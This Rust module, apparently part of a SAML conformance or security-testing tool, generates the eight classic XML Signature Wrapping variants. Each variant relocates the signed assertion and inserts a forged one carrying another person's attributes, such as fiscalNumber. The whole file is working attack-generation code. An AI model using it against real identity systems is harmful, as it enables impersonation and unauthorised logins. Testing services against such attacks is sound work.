//! Signature wrapping: what was signed is still in the document, but not where it is read.
//! (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", 2012.)

use super::answer::{Answer, new_id};
use super::people::PEOPLE;

/// The eight classic forms.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Wrapping {
    /// A forged response, the signed one inside its signature.
    ResponseInsideItsSignature,
    /// A forged response, the signed one before its signature.
    ResponseBesideItsSignature,
    /// A forged assertion before the signed one.
    ForgedBefore,
    /// A forged assertion around the signed one.
    ForgedAround,
    /// The forged assertion carries the signature, the signed one comes last.
    SignatureMoved,
    /// The forged assertion carries the signature, which carries the signed one.
    SignedInsideTheSignature,
    /// The forged assertion stands in `Extensions`.
    ForgedInExtensions,
    /// The signed assertion stands in an `Object` of the forged one's signature.
    SignedInObject,
}

// === impl Wrapping ===

impl Wrapping {
    /// Every form.
    pub const ALL: [Self; 8] = [
        Self::ResponseInsideItsSignature,
        Self::ResponseBesideItsSignature,
        Self::ForgedBefore,
        Self::ForgedAround,
        Self::SignatureMoved,
        Self::SignedInsideTheSignature,
        Self::ForgedInExtensions,
        Self::SignedInObject,
    ];

    /// Whether it is the response's signature that is abused.
    pub(super) const fn moves_the_response(self) -> bool {
        matches!(self, Self::ResponseInsideItsSignature | Self::ResponseBesideItsSignature)
    }

    /// Wraps a signed response, so that a reader who does not look closely sees somebody else.
    pub(super) fn wrap(self, signed: &str, answer: &Answer) -> String {
        if self.moves_the_response() { self.wrap_response(signed, answer) } else { self.wrap_assertion(signed, answer) }
    }

    fn wrap_response(self, signed: &str, answer: &Answer) -> String {
        let forged = forge(signed, answer).replace(&answer.response_id, &new_id());
        let original = signed.trim();
        match self {
            Self::ResponseInsideItsSignature => {
                forged.replacen("</ds:Signature>", &format!("<ds:Object>{original}</ds:Object></ds:Signature>"), 1)
            }
            _ => forged.replacen("<ds:Signature ", &format!("{original}<ds:Signature "), 1),
        }
    }

    fn wrap_assertion(self, signed: &str, answer: &Answer) -> String {
        let (before, original, after) = around(signed, "<saml:Assertion ", "</saml:Assertion>");
        let (head, signature, tail) = around(original, "<ds:Signature ", "</ds:Signature>");
        let unsigned = format!("{head}{tail}");
        let forged = forge(&unsigned, answer);
        let inside =
            |parent: &str, child: &str| parent.replacen("</saml:Assertion>", &format!("{child}</saml:Assertion>"), 1);
        let carrying = |signature: &str| forged.replacen("</saml:Issuer>", &format!("</saml:Issuer>{signature}"), 1);
        match self {
            Self::ForgedBefore => format!("{before}{forged}{original}{after}"),
            Self::ForgedAround => format!("{before}{}{after}", inside(&forged, original)),
            Self::SignatureMoved => format!("{before}{}{unsigned}{after}", carrying(signature)),
            Self::SignedInsideTheSignature => {
                let holding = signature.replacen("</ds:Signature>", &format!("{unsigned}</ds:Signature>"), 1);
                format!("{before}{}{after}", carrying(&holding))
            }
            Self::SignedInObject => {
                let object = format!("<ds:Object>{unsigned}</ds:Object></ds:Signature>");
                format!("{before}{}{after}", carrying(&signature.replacen("</ds:Signature>", &object, 1)))
            }
            _ => {
                let before = before.replacen(
                    "<samlp:Status>",
                    &format!("<samlp:Extensions>{forged}</samlp:Extensions><samlp:Status>"),
                    1,
                );
                format!("{before}{original}{after}")
            }
        }
    }
}

/// The same words about another person, under another identifier.
fn forge(text: &str, answer: &Answer) -> String {
    let mut forged = text.replace(&answer.assertion_id, &new_id());
    let told =
        |name: &str| answer.attributes.iter().find(|(told, _)| told == name).map(|(_, value)| value.text.clone());
    let victim =
        PEOPLE.iter().find(|person| told("fiscalNumber") != person.attribute("fiscalNumber").map(|it| it.text));
    for (name, value) in &answer.attributes {
        if let Some(other) = victim.and_then(|victim| victim.attribute(name)) {
            forged = forged.replace(&format!(">{}<", value.text), &format!(">{}<", other.text));
        }
    }
    forged
}

/// What stands before, between (marks included) and after two marks; all before where they are not found.
fn around<'t>(text: &'t str, open: &str, close: &str) -> (&'t str, &'t str, &'t str) {
    let start = text.find(open).unwrap_or(text.len());
    let end = text[start..].find(close).map_or(text.len(), |at| start + at + close.len());
    (&text[..start], &text[start..end], &text[end..])
}
